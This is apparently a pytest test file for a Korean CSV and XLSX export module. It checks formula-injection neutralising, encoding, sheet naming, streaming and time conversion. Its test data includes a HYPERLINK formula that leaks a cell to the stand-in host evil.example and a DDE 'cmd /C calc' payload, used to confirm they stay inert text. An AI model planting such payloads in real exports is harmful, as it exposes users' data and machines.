import csv
import io
from collections.abc import Iterator, Sequence
from datetime import UTC, date, datetime

import openpyxl
import pytest
from openpyxl.workbook.child import INVALID_TITLE_REGEX

from workflows.exports import Cell, Sheet, neutralise, sheet_title, write_csv, write_xlsx

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"클릭")'
HEADER = ["접수번호", "제목", "건수", "접수일", "처리일시", "공개"]


def _rows() -> list[list[Cell]]:
    return [
        [
            "2025-000001",
            "규제 철폐 제안",
            3,
            date(2025, 1, 6),
            datetime(2025, 1, 6, 0, 30, tzinfo=UTC),
            True,
        ],
        ["2025-000002", HOSTILE, -5, None, None, False],
    ]


def _csv(sheet: Sheet) -> tuple[bytes, list[list[str]]]:
    out = io.BytesIO()
    write_csv(sheet, out)
    data = out.getvalue()
    return data, list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _load(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data), read_only=True)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        (" =cmd|' /C calc'!A0", "' =cmd|' /C calc'!A0"),
        ("\n @x", "'\n @x"),
        ("-5", "'-5"),
        (-5, -5),
        (1.5, 1.5),
        (True, True),
        (None, None),
        ("", ""),
        ("규제철폐 제안 = 좋음", "규제철폐 제안 = 좋음"),
        ("a-b", "a-b"),
        (date(2025, 1, 6), date(2025, 1, 6)),
    ],
)
def test_neutralise(value: Cell, expected: Cell) -> None:
    result = neutralise(value)
    assert result == expected
    assert type(result) is type(expected)


def test_csv_has_bom_crlf_and_round_trips_korean() -> None:
    data, rows = _csv(Sheet("제안", HEADER, _rows()))
    assert data.startswith(b"\xef\xbb\xbf")
    assert not data.startswith(b"\xef\xbb\xbf\xef\xbb\xbf")
    assert data.count(b"\r\n") == 3
    assert b"\n" not in data.replace(b"\r\n", b"")
    assert rows[0] == HEADER
    assert rows[1] == [
        "2025-000001",
        "규제 철폐 제안",
        "3",
        "2025-01-06",
        "2025-01-06T09:30:00+09:00",
        "Y",
    ]
    assert rows[2] == ["2025-000002", "'" + HOSTILE, "-5", "", "", "N"]


def test_csv_keeps_newlines_inside_a_quoted_cell() -> None:
    _, rows = _csv(Sheet("s", ["본문"], [['첫 줄\n둘째 줄, 쉼표 "인용"']]))
    assert rows[1] == ['첫 줄\n둘째 줄, 쉼표 "인용"']


def test_csv_naive_datetime_is_taken_as_utc() -> None:
    _, rows = _csv(Sheet("s", ["시각"], [[datetime(2025, 12, 31, 15, 0)]]))
    assert rows[1] == ["2026-01-01T00:00:00+09:00"]


def test_xlsx_reads_back_with_text_numbers_and_no_formula() -> None:
    out = io.BytesIO()
    total = write_xlsx([Sheet("제안 목록", HEADER, _rows())], out)
    assert total == 2
    wb = _load(out.getvalue())
    try:
        assert wb.sheetnames == ["제안 목록"]
        ws = wb["제안 목록"]
        rows = list(ws.iter_rows())
        assert [c.value for c in rows[0]] == HEADER
        assert all(c.font.b for c in rows[0])
        first = [c.value for c in rows[1]]
        assert first[:3] == ["2025-000001", "규제 철폐 제안", 3]
        assert type(first[2]) is int
        assert first[3] == datetime(2025, 1, 6)  # Excel stores dates as datetimes
        assert first[4] == datetime(2025, 1, 6, 9, 30)  # Seoul wall time, naive
        assert first[5] is True
        hostile = rows[2][1]
        assert hostile.value == "'" + HOSTILE
        assert hostile.data_type != "f"
        assert rows[2][2].value == -5
        assert type(rows[2][2].value) is int
    finally:
        wb.close()


def test_xlsx_header_is_frozen() -> None:
    out = io.BytesIO()
    write_xlsx([Sheet("s", ["a"], [["b"]])], out)
    wb = openpyxl.load_workbook(io.BytesIO(out.getvalue()))
    assert wb.active is not None
    assert wb.active.freeze_panes == "A2"


def test_xlsx_error_codes_and_control_characters_stay_text() -> None:
    out = io.BytesIO()
    write_xlsx([Sheet("s", ["a"], [["#N/A"], ["줄\x00바꿈\x07\t끝"]])], out)
    wb = _load(out.getvalue())
    try:
        values = [row[0] for row in wb["s"].iter_rows(min_row=2, values_only=True)]
        assert values == ["#N/A", "줄바꿈\t끝"]
    finally:
        wb.close()


def test_xlsx_two_sheets_with_sanitised_names() -> None:
    out = io.BytesIO()
    write_xlsx(
        [
            Sheet("접수/현황[1]", ["번호"], [[1], [2]]),
            Sheet("담당자:목록*?\\", ["이름"], [["김철수"]]),
        ],
        out,
    )
    wb = _load(out.getvalue())
    try:
        assert wb.sheetnames == ["접수_현황_1_", "담당자_목록___"]
        assert [r[0] for r in wb["접수_현황_1_"].iter_rows(values_only=True)] == ["번호", 1, 2]
        assert [r[0] for r in wb["담당자_목록___"].iter_rows(values_only=True)] == [
            "이름",
            "김철수",
        ]
    finally:
        wb.close()


@pytest.mark.parametrize(
    ("name", "taken", "expected"),
    [
        ("접수/현황[1]", [], "접수_현황_1_"),
        ("a" * 40, [], "a" * 31),
        ("가" * 40, [], "가" * 31),
        ("'quoted'", [], "quoted"),
        ("", [], "Sheet"),
        ("History", [], "History (2)"),
        ("목록", ["목록"], "목록 (2)"),
        ("List", ["list", "LIST (2)"], "List (3)"),
        ("b" * 31, ["b" * 31], "b" * 27 + " (2)"),
    ],
)
def test_sheet_title(name: str, taken: Sequence[str], expected: str) -> None:
    title = sheet_title(name, taken)
    assert title == expected
    assert 0 < len(title) <= 31
    assert not INVALID_TITLE_REGEX.search(title)


def test_xlsx_duplicate_names_become_unique() -> None:
    out = io.BytesIO()
    write_xlsx([Sheet("목록", ["a"], []), Sheet("목록", ["a"], [])], out)
    wb = _load(out.getvalue())
    try:
        assert wb.sheetnames == ["목록", "목록 (2)"]
    finally:
        wb.close()


def test_xlsx_needs_a_sheet() -> None:
    with pytest.raises(ValueError, match="at least one sheet"):
        write_xlsx([], io.BytesIO())


class _Rows:
    """A one-shot generator of rows that records how far it has been consumed."""

    def __init__(self, n: int) -> None:
        self.n = n
        self.produced = 0

    def __iter__(self) -> Iterator[list[Cell]]:
        for i in range(self.n):
            self.produced += 1
            yield [i, f"행 {i}", "=1+1" if i % 2 else None]


def test_csv_streams_a_generator_with_progress() -> None:
    source = _Rows(5_000)
    rows = iter(source)
    seen: list[tuple[int, int]] = []
    out = io.BytesIO()

    def progress(n: int) -> None:
        # Rows are pulled one by one: when n rows are reported, no more than n were produced.
        seen.append((n, source.produced))
        assert out.getvalue().count(b"\r\n") == n + 1  # header + n rows already written

    count = write_csv(Sheet("s", ["번호", "값", "식"], rows), out, progress=progress)
    assert count == 5_000
    assert seen == [(n, n) for n in (1000, 2000, 3000, 4000, 5000)]
    assert next(rows, None) is None  # the generator itself was consumed, not a copy
    lines = list(csv.reader(io.StringIO(out.getvalue().decode("utf-8-sig"), newline="")))
    assert len(lines) == 5_001
    assert lines[2] == ["1", "행 1", "'=1+1"]


def test_xlsx_streams_generators_with_progress_across_sheets() -> None:
    first, second = _Rows(3_000), _Rows(2_000)
    seen: list[tuple[int, int]] = []

    def progress(n: int) -> None:
        seen.append((n, first.produced + second.produced))

    out = io.BytesIO()
    total = write_xlsx(
        [Sheet("하나", ["번호", "값", "식"], iter(first)), Sheet("둘", ["번호"], iter(second))],
        out,
        progress=progress,
    )
    assert total == 5_000
    assert seen == [(n, n) for n in (1000, 2000, 3000, 4000, 5000)]
    wb = _load(out.getvalue())
    try:
        assert sum(1 for _ in wb["하나"].iter_rows(values_only=True)) == 3_001
        assert sum(1 for _ in wb["둘"].iter_rows(values_only=True)) == 2_001
        row = next(wb["하나"].iter_rows(min_row=3, max_row=3))
        assert [c.value for c in row] == [1, "행 1", "'=1+1"]
        assert row[2].data_type != "f"
    finally:
        wb.close()


def test_xlsx_converts_aware_datetimes_to_seoul_wall_time() -> None:
    out = io.BytesIO()
    write_xlsx(
        [
            Sheet(
                "s",
                ["UTC", "naive UTC"],
                [[datetime(2025, 12, 31, 15, 0, tzinfo=UTC), datetime(2025, 6, 1, 0, 0)]],
            )
        ],
        out,
    )
    wb = _load(out.getvalue())
    try:
        values = next(wb["s"].iter_rows(min_row=2, values_only=True))
        assert values == (datetime(2026, 1, 1, 0, 0), datetime(2025, 6, 1, 9, 0))
    finally:
        wb.close()
